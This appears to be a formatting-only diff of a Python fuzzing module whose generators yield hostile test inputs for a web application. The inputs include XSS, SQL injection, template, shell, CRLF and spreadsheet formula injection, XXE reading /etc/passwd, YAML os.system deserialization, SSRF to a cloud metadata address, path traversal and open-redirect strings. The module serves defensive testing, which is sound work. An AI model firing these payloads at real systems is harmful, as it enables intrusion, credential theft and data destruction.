@@ -99,9 +99,50 @@ def shapes() -> Iterator[str]:
     yield "ΐ" * 400  # three letters each when decomposed
     yield from ("Кабупатен", "Kаbupаten", "ΚΑΒ", "ⓀⒶⒷ", "ₖₐᵦ", "𝕂𝕒𝕓", "ᴋᴀʙ", "ｋａｂ", "K\u0331ab", "ıİ", "ßẞ", "ŉ")
     yield from ("👨‍👩‍👧‍👦", "🇮🇩", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏿" * 50, "☠️", "(╯°□°)╯", "漢字かな한글", "मराठी", "ไทย", "ಠ_ಠ", "ﷲ", "ܐܒܓ")
-    yield from ("null", "None", "undefined", "true", "NaN", "0", "-1", "[]", "{}", "''", '""', "//", "--", "#", "?", "%")
-    yield from ("%00", "%0d%0a", "%u0041", "\\u0000", "\\x00", "\\", "\\\\", "&", "&amp;", "&#0;", "&#x1F;", "&lt;b&gt;")
-    yield from ("\r", "\n", "\r\n\r\n", "\t\t", "a\r\nb\rc\nd", "\n" * 3000, " " * 5000, "a" + " " * 5000 + "b", ".", "...")
+    yield from (
+        "null",
+        "None",
+        "undefined",
+        "true",
+        "NaN",
+        "0",
+        "-1",
+        "[]",
+        "{}",
+        "''",
+        '""',
+        "//",
+        "--",
+        "#",
+        "?",
+        "%",
+    )
+    yield from (
+        "%00",
+        "%0d%0a",
+        "%u0041",
+        "\\u0000",
+        "\\x00",
+        "\\",
+        "\\\\",
+        "&",
+        "&amp;",
+        "&#0;",
+        "&#x1F;",
+        "&lt;b&gt;",
+    )
+    yield from (
+        "\r",
+        "\n",
+        "\r\n\r\n",
+        "\t\t",
+        "a\r\nb\rc\nd",
+        "\n" * 3000,
+        " " * 5000,
+        "a" + " " * 5000 + "b",
+        ".",
+        "...",
+    )
 
 
 def mixtures() -> Iterator[str]:
@@ -128,7 +169,14 @@ def scripts() -> Iterator[str]:
     for ending in ('"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</option>", "</template>"):
         yield f"{ending}<img src=x onerror={ACT}>"
         yield f"{ending} onfocus={ACT} autofocus x={ending}"
-    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,<script>", "vbscript:"):
+    for scheme in (
+        "javascript:",
+        "JaVaScRiPt:",
+        "java\tscript:",
+        "\x01javascript:",
+        "data:text/html,<script>",
+        "vbscript:",
+    ):
         yield f"{scheme}{ACT}"
         yield f'<a href="{scheme}{ACT}">x</a>'
         yield f"[x]({scheme}{ACT})"
@@ -150,62 +198,224 @@ def scripts() -> Iterator[str]:
 def injections() -> Iterator[str]:
     """Commands for the programs behind a page: databases, templates, shells, logs, headers, spreadsheets."""
     for quote in ("'", '"', "`", "')", '")', "'))", "\\'", "%27"):
-        for rest in (" OR 1=1--", " UNION SELECT password_hash FROM users--", "; DROP TABLE users;--", " AND 1=(SELECT 1)#"):
+        for rest in (
+            " OR 1=1--",
+            " UNION SELECT password_hash FROM users--",
+            "; DROP TABLE users;--",
+            " AND 1=(SELECT 1)#",
+        ):
             yield f"{quote}{rest}"
     yield from ("%' OR '%'='", "_%_", "%%%", "*", "MATCH 'a*'", "\\%", "randomblob(1e9)", "char(0)", "1 GLOB 1", "\x1a")
     opened = ("{{%s}}", "{%% %s %%}", "${%s}", "#{%s}", "<%%=%s%%>", "{%s}", "%%(%s)s", "@(%s)", "*{%s}", "[[%s]]")
     for template in opened:
         for inner in ("7*7", "config", "self.__class__", "0.__class__.__mro__", "request.application.__globals__"):
             yield template % inner
-    yield from ("%s%s%s%n", "%x" * 20, "%1$s", "%999999d", "{0.__class__}", "{:>999999999}", "{!r}", "{", "}", "%", "%(a)s")
+    yield from (
+        "%s%s%s%n",
+        "%x" * 20,
+        "%1$s",
+        "%999999d",
+        "{0.__class__}",
+        "{:>999999999}",
+        "{!r}",
+        "{",
+        "}",
+        "%",
+        "%(a)s",
+    )
     for ends in ("\r\n", "\n", "%0d%0a", "\u560d\u560a", "\r", "\x85", "\u2028", "\\r\\n"):
         yield f"x{ends}Set-Cookie: a=b"
         yield f"x{ends}2026-02-13 04:00:00 INFO palsu"
     for first in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "＠", "|", '"=', "'=", ";=", ",="):
         yield f"{first}1+1"
-        yield f"{first}HYPERLINK(\"https://contoh.invalid/\"&A1;\"x\")"
+        yield f'{first}HYPERLINK("https://contoh.invalid/"&A1;"x")'
         yield f"{first}cmd|' /C calc'!A0"
-    for shell in ("; id", "| id", "`id`", "$(id)", "&& id", "\nid\n", "> /tmp/x", "< /etc/passwd", "${IFS}id", "$((1))"):
+    for shell in (
+        "; id",
+        "| id",
+        "`id`",
+        "$(id)",
+        "&& id",
+        "\nid\n",
+        "> /tmp/x",
+        "< /etc/passwd",
+        "${IFS}id",
+        "$((1))",
+    ):
         yield f"laporan{shell}"
     yield from ("*)(uid=*", "' or '1'='1", "//*[1]", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")
-    yield from ("!!python/object/apply:os.system [id]", "&a [*a,*a]", "__proto__", "constructor", "__class__", "; --", "\\N")
-    yield from ("-rf", "--help", "@/etc/passwd", "file:///etc/passwd", "gopher://127.0.0.1:1/", "http://169.254.169.254/")
+    yield from (
+        "!!python/object/apply:os.system [id]",
+        "&a [*a,*a]",
+        "__proto__",
+        "constructor",
+        "__class__",
+        "; --",
+        "\\N",
+    )
+    yield from (
+        "-rf",
+        "--help",
+        "@/etc/passwd",
+        "file:///etc/passwd",
+        "gopher://127.0.0.1:1/",
+        "http://169.254.169.254/",
+    )
 
 
 def paths() -> Iterator[str]:
     """Names that would lead elsewhere, or that no disk can hold."""
     yield from NAMES
-    for up in ("../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "..;/", "....//", "..\u2215", "\uff0e\uff0e/", "%c0%ae/"):
+    for up in (
+        "../",
+        "..\\",
+        "%2e%2e/",
+        "%2e%2e%2f",
+        "..%2f",
+        "..%5c",
+        "..;/",
+        "....//",
+        "..\u2215",
+        "\uff0e\uff0e/",
+        "%c0%ae/",
+    ):
         for depth in (1, 4, 12):
             yield f"{up * depth}etc/passwd"
         yield f"bukti/{up * 3}paritrana.sqlite3"
     for device in ("CON", "PRN", "AUX", "NUL", "COM1", "COM9", "LPT1", "CLOCK$", "CONIN$"):
         yield device
         yield f"{device}.pdf"
-    for root in ("/", "//", "///", "\\\\server\\share\\", "C:\\", "C:", "file://", "~/", "$HOME/", "\\\\?\\C:\\", "/proc/self/", "/dev/"):
+    for root in (
+        "/",
+        "//",
+        "///",
+        "\\\\server\\share\\",
+        "C:\\",
+        "C:",
+        "file://",
+        "~/",
+        "$HOME/",
+        "\\\\?\\C:\\",
+        "/proc/self/",
+        "/dev/",
+    ):
         yield f"{root}rahasia.pdf"
     for length in (255, 256, 1000, 1001, 4096):
         yield "a" * length
         yield "é" * (length // 2) + ".pdf"
-    for ending in (".pdf.exe", ".pdf ", ".pdf.", ".pdf\x00.exe", ".PDF;.html", ".pdf:stream", ".pdf/", ".svg", ".php%00.pdf", ".lnk"):
+    for ending in (
+        ".pdf.exe",
+        ".pdf ",
+        ".pdf.",
+        ".pdf\x00.exe",
+        ".PDF;.html",
+        ".pdf:stream",
+        ".pdf/",
+        ".svg",
+        ".php%00.pdf",
+        ".lnk",
+    ):
         yield f"laporan{ending}"
-    yield from (".", "..", "...", " ", "-", "--", "*", "?", "|", "<", ">", '"', ":", "\x7f.pdf", "a\tb.pdf", "a\nb.pdf", "\u202efdp.exe")
+    yield from (
+        ".",
+        "..",
+        "...",
+        " ",
+        "-",
+        "--",
+        "*",
+        "?",
+        "|",
+        "<",
+        ">",
+        '"',
+        ":",
+        "\x7f.pdf",
+        "a\tb.pdf",
+        "a\nb.pdf",
+        "\u202efdp.exe",
+    )
 
 
 def redirects() -> Iterator[str]:
     """Places elsewhere, written so that a careless check takes them for pages of ours."""
     host = "contoh.invalid"
-    starts = ("http://", "https://", "//", "///", "////", "\\\\", "/\\", "\\/", "/\t/", "/\n/", "/\r/", "/%09/", "/%2f", "/%5c")
-    starts += ("http:", "https:", "http:/", "https:///", "hTTps://", "\x00//", "\x01//", " //", "\t//", "\u00a0//", "/./\\", "/.//")
-    starts += ("http://localhost@", "http://localhost:8000@", "//localhost@", "//localhost%40", "//localhost\\@", "ftp://", "//。")
+    starts = (
+        "http://",
+        "https://",
+        "//",
+        "///",
+        "////",
+        "\\\\",
+        "/\\",
+        "\\/",
+        "/\t/",
+        "/\n/",
+        "/\r/",
+        "/%09/",
+        "/%2f",
+        "/%5c",
+    )
+    starts += (
+        "http:",
+        "https:",
+        "http:/",
+        "https:///",
+        "hTTps://",
+        "\x00//",
+        "\x01//",
+        " //",
+        "\t//",
+        "\u00a0//",
+        "/./\\",
+        "/.//",
+    )
+    starts += (
+        "http://localhost@",
+        "http://localhost:8000@",
+        "//localhost@",
+        "//localhost%40",
+        "//localhost\\@",
+        "ftp://",
+        "//。",
+    )
     for start in starts:
         yield f"{start}{host}"
         yield f"{start}{host}/isian"
-    for text in ("javascript:alert(1)", "data:text/html,x", "vbscript:x", "mailto:a@b", "//", "/", "///", "http://", "..//x"):
+    for text in (
+        "javascript:alert(1)",
+        "data:text/html,x",
+        "vbscript:x",
+        "mailto:a@b",
+        "//",
+        "/",
+        "///",
+        "http://",
+        "..//x",
+    ):
         yield text
         yield f"/{text}"
-    yield from ("/isian\r\nX: y", "/isian\x00", "/isian\u2028", "/" + "a" * 60_000, "?next=//x", "#//x", "/isian#" + "x" * 99, "/é")
-    yield from ("/isian/../../x", "/keluar", "/masuk?next=//contoh.invalid", "/isian/" + "9" * 400, "/%", "/%zz", "/%ff", "/[", "//[")
+    yield from (
+        "/isian\r\nX: y",
+        "/isian\x00",
+        "/isian\u2028",
+        "/" + "a" * 60_000,
+        "?next=//x",
+        "#//x",
+        "/isian#" + "x" * 99,
+        "/é",
+    )
+    yield from (
+        "/isian/../../x",
+        "/keluar",
+        "/masuk?next=//contoh.invalid",
+        "/isian/" + "9" * 400,
+        "/%",
+        "/%zz",
+        "/%ff",
+        "/[",
+        "//[",
+    )
 
 
 MADE = {
